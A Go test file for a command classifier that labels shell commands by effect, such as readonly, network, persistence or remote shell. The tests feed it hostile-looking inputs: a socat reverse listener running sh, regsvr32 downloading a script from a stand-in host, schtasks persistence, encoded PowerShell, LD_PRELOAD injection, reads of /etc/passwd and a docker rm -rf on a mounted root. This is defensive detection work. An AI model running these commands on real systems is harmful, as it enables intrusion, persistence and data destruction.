package command

import (
	"slices"
	"strings"
	"testing"

	"github.com/shieldcli/shield/internal/allocated"
	"github.com/shieldcli/shield/pkg/effect"
)

func TestNames(t *testing.T) {
	for _, tt := range []struct{ name, want string }{
		{"", "unlisted, not understood"},
		{"cat a", "readonly, read_file a, out input"},
		{"/bin/cat a", "readonly, read_file a, out input"},
		{"CAT.EXE a", "readonly, read_file a, out input"},
		{"python3.12 a.py", "readonly, python file[a.py]"},
		{"node_modules/.bin/rg a", "local-write, read_file . +below, out input"},
		{".venv/bin/python a.py", "local-write, python file[a.py]"},
		{"/tmp/cat a", "readonly, not understood, read_file a, file[/tmp/cat], out input"},
		{"./unlisted a", "unlisted, not understood, file[./unlisted]"},
		{"unlisted a", "unlisted, not understood"},
		{"%%ca* a", "unlisted, not understood"},
	} {
		if got := summary(Interpret(split(tt.name))); got != tt.want {
			t.Errorf("%s\n got %s\nwant %s", tt.name, got, tt.want)
		}
	}
}

// TestVersions checks that every program understands --version, which people
// ask of all of them.
func TestVersions(t *testing.T) {
	for _, command := range []string{"git --version", "node --version", "python3 --version", "docker --version", "terraform --version", "bash --version", "jq --version"} {
		if u := Interpret(split(command)); !u.Understood || u.Class != effect.ReadOnly || u.Stdin != StreamPlainData {
			t.Errorf("%s: %s (%s)", command, summary(u), u.WhyNotUnderstood)
		}
	}
}

func TestVariable(t *testing.T) {
	for _, tt := range []struct{ setting, want string }{
		{"PAGER=./x", "shell[./x]"},
		{"PAGER=less", ""},
		{"GIT_PAGER=cat", ""},
		{"LESSOPEN=|./x %s", "shell[./x %s]"},
		{"LD_PRELOAD=./x.so", "file[./x.so]"},
		{"LD_LIBRARY_PATH=/usr/lib", ""},
		{"LD_LIBRARY_PATH=/tmp/x", "file[/tmp/x]"},
		{"NODE_OPTIONS=--max-old-space-size=1", ""},
		{"NODE_OPTIONS=--require ./x", "code[--require ./x]"},
		{"BASH_ENV=./x", "shell file[./x]"},
		{"PYTHONPATH=src", ""},
		{"GIT_CONFIG_VALUE_0=./x", "code[./x]"},
		{"GOFLAGS=-toolexec=/x", "code[-toolexec=/x]"},
		{"GOFLAGS=-mod=mod", ""},
		{"CC=/x", "shell[/x]"},
		{"CC=ccache gcc", ""},
		{"LUA_INIT=@/x", "lua file[/x]"},
		{"LUA_INIT_5_4=os.exit()", "lua[os.exit()]"},
		{"MAVEN_OPTS=-javaagent:/x.jar", "code[-javaagent:/x.jar]"},
		{"MAVEN_OPTS=-Xmx2g", ""},
		{"DOTNET_STARTUP_HOOKS=/x.dll", "file[/x.dll]"},
		{"FOO=bar", ""},
		{"PAGER=", ""},
		{"=x", ""},
		{"PAGER", ""},
	} {
		n, ok := CodeRunByEnvVariable(Word{Text: tt.setting})
		got := ""
		if ok {
			got = strings.TrimPrefix(summary(Interpretation{Understood: true, Class: effect.ReadOnly, NestedCommandsAndCode: []NestedCommandOrCode{n}}), "readonly, ")
		}
		if got != tt.want {
			t.Errorf("%s: got %q, want %q", tt.setting, got, tt.want)
		}
	}
}

// hostile are argument lists that cost too much if something is not linear.
func hostile() map[string][]Word {
	many := func(first, text string) []Word {
		ws := []Word{{Text: first}}
		for range 100_000 {
			ws = append(ws, Word{Text: text})
		}
		return ws
	}
	long := strings.Repeat("x", 64<<10)
	return map[string][]Word{
		"operands":      many("cp", "a"),
		"long operands": append(many("cp", long)[:1000], Word{Text: long}),
		"options":       many("git", "-c"),
		"bundles":       {{Text: "ls"}, {Text: "-" + strings.Repeat("l", 64<<10)}},
		"unknown":       many("ls", "--unknown"),
		"settings":      many("env", "A=b"),
		"exec":          many("find", "-exec"),
		"placeholders":  append(many("find", "-exec"), many("{}", "{}")...),
		"names":         many("find", "-name"),
		"starts":        many("find", "a"),
		"subcommands":   many("docker", "container"),
		"sed":           {{Text: "sed"}, {Text: strings.Repeat("s/[/", 16<<10)}},
		"sed brackets":  {{Text: "sed"}, {Text: "/" + strings.Repeat("[", 60<<10)}},
		"sql":           {{Text: "psql"}, {Text: "-c"}, {Text: strings.Repeat("select(;/*", 6<<10)}},
		"sql quotes":    {{Text: "psql"}, {Text: "-c"}, {Text: strings.Repeat("'", 60<<10)}},
		"ex":            {{Text: "vim"}, {Text: "-c"}, {Text: strings.Repeat("|", 60<<10)}},
		"exec values":   many("find", "-fprintf"),
		"ssh":           many("ssh", "x"),
		"volumes":       {{Text: "docker"}, {Text: "run"}, {Text: "-v"}, {Text: strings.Repeat(":,", 60<<10)}},
		"program":       {{Text: strings.Repeat("/", 1<<20)}},
		"tar":           many("tar", "-fx"),
	}
}

func TestHostile(t *testing.T) {
	for name, words := range hostile() {
		var u Interpretation
		if n := allocated.Bytes(func() { u = Interpret(words) }); n > 64<<20 {
			t.Errorf("%s: %d bytes allocated", name, n)
		}
		if size := len(u.OperandEffects) + len(u.NestedCommandsAndCode) + len(u.Effects); size > 2*len(words)+10 {
			t.Errorf("%s: %d results of %d words", name, size, len(words))
		}
	}
}

func FuzzInterpret(f *testing.F) {
	for i := range programs {
		if i%7 == 0 {
			f.Add(programs[i].name + " -a --b=c d")
		}
	}
	f.Add("git -c a=b log")
	f.Add("tar cfC a b c")
	f.Add("find ( -name a ) -exec x {} ;")
	f.Add("%%* -x")
	f.Fuzz(func(t *testing.T, command string) {
		words := split(command)
		before := slices.Clone(words)
		u := Interpret(words)
		if !slices.Equal(words, before) {
			t.Fatal("the arguments were changed")
		}
		if u.Understood && (u.WhyNotUnderstood != "" || u.Class == effect.UnknownClass && !u.IsWindowsProgram) || !u.Understood && u.WhyNotUnderstood == "" {
			t.Fatalf("known %t, class %q, reason %q", u.Understood, u.Class, u.WhyNotUnderstood)
		}
		from := map[effect.CommandTextSpan]bool{}
		for _, w := range words {
			from[w.Span] = true
		}
		for _, touch := range u.OperandEffects {
			if !from[touch.Word.Span] {
				t.Fatalf("touch %v comes from nowhere", touch)
			}
			if minProgramClassRank(touch.Kind).programClass() != effect.ReadOnly && u.Class == effect.ReadOnly {
				t.Fatalf("touch %v of a program that only reads", touch)
			}
		}
	})
}

func BenchmarkInterpret(b *testing.B) {
	for _, command := range []string{"cp -r a b", "git commit -m message", "grep -rn foo src", "docker run --rm alpine ls"} {
		words := split(command)
		b.Run(words[0].Text, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				Interpret(words)
			}
		})
	}
}

func TestOfWindows(t *testing.T) {
	for name, want := range map[string]string{"find": "cmd:find", "DEL": "cmd:del", "reg": "reg", "psexec64": "psexec64", "git": "", "nosuch": ""} {
		if got, ok := WindowsProgramTableName(name); ok != (want != "") || ok && got != want {
			t.Errorf("%s: %q, %t", name, got, ok)
		}
	}
}

func TestLanguage(t *testing.T) {
	for name, want := range map[string]string{"python3.12": "python", "bash": "shell", "nu": "shell", "bun": "node", "uv": "python", "gawk": "awk", "ls": "", "nosuch": ""} {
		if got := InterpreterLanguage(name); got != want {
			t.Errorf("%s reads %q, want %q", name, got, want)
		}
	}
	for file, want := range map[string]string{"a.py": "python", "x/B.PS1": "powershell", "a": "", "a.py/x": "", "." + strings.Repeat("x", 300): ""} {
		if got := FileLanguage(file); got != want {
			t.Errorf("%.20s holds %q, want %q", file, got, want)
		}
	}
}

// TestSlash reads options as programs of Windows do.
func TestSlash(t *testing.T) {
	long := "x " + strings.Repeat("y", maxJoinedArgsBytes)
	for _, tt := range []struct{ command, want string }{
		{"schtasks -CREATE -TR calc", "privileged, persist, harm registers, cmd[calc]"},
		{"schtasks /create /tr:calc", "privileged, persist, harm registers, cmd[calc]"},
		{"schtasks //create //tr calc", "privileged, persist, harm registers, cmd[calc]"},
		{"powershell –enc aQBkAA==", "readonly, encoded[aQBkAA==]"},
		{"powershell /EncodedC aQBkAA==", "readonly, encoded[aQBkAA==]"},
		{"findstr x /etc/passwd", "readonly, read_file /etc/passwd, out input"},
		{"findstr - a", "readonly, read_file a, out input"},
		{"schtasks /create /tr", "privileged, not understood, persist, harm registers"},
		{"tasklist /nosuch", "readonly, not understood"},
		{"reg", "readonly"},
		{"sc '\\\\h' query", "readonly"},
		{"rundll32 " + long, "unknown, not understood"},
		{"regsvr32 /i:'\"http://x.test/a\"b'", "unknown, dynamic, run_download, http_request http://x.test/a"},
		{"certutil ftp://x http", "unknown"},
		{"cmd /C", "readonly, in code"},
	} {
		if got := summary(Interpret(split(tt.command))); got != tt.want {
			t.Errorf("%.60s\n got %s\nwant %s", tt.command, got, tt.want)
		}
	}
}

// TestRemotes judges words that name other machines, in their many forms.
func TestRemotes(t *testing.T) {
	for _, tt := range []struct{ command, want string }{
		{"http POST x.test a=b c@f d=@g", "network, http_request x.test, read_file f sent, read_file g sent, in upload, out download"},
		{"socat - TCP:h:80", "network, connect h, in upload, out download"},
		{"socat EXEC:sh TCP-LISTEN:80", "network, remote_shell, listen 80, shell[sh], in upload, out download"},
		{"socat FILE:a NOSUCH:b", "network, not understood, read_file a sent, write_file a, in upload, out download"},
		{"git clone ext::sh", "network, dynamic, write_file sh +below, shell[sh]"},
		{"git clone foo::x", "network, not understood, dynamic, write_file x +below"},
		{"git clone file:///a", "network, read_file /a +below, write_file a +below"},
		{"git clone ssh://u@h/x", "network, connect h, write_file x +below"},
		{"rsync a rsync://h/x", "network, change_remote, read_file a sent, connect h"},
		{"pip install 'x @ git+https://h.test/x'", "network, http_request https://h.test/x, change_remote https://h.test/x"},
		{"aws s3 cp file:///a s3://b/c", "network, change_remote, read_file /a +below sent, http_request s3://b/c"},
		{"docker run --mount type=bind,source=/,target=/x,readonly y", "local-write, read_file / +below, in code"},
		{"docker run -itv=/:/x:ro y rm -rf /x", "local-write, read_file / +below, remote argv[rm|-rf|/x]"},
		{"docker run -it -e=A=b -uroot -w/x -v/:/x:ro y ls", "local-write, read_file / +below, remote argv[ls]"},
		{"ssh -o RemoteCommand=id -o IdentityFile=k -o Nosuch=x h", "network, not understood, read_file k, connect h, remote shell[id], in upload, out download"},
	} {
		if got := summary(Interpret(split(tt.command))); got != tt.want {
			t.Errorf("%s\n got %s\nwant %s", tt.command, got, tt.want)
		}
	}
}
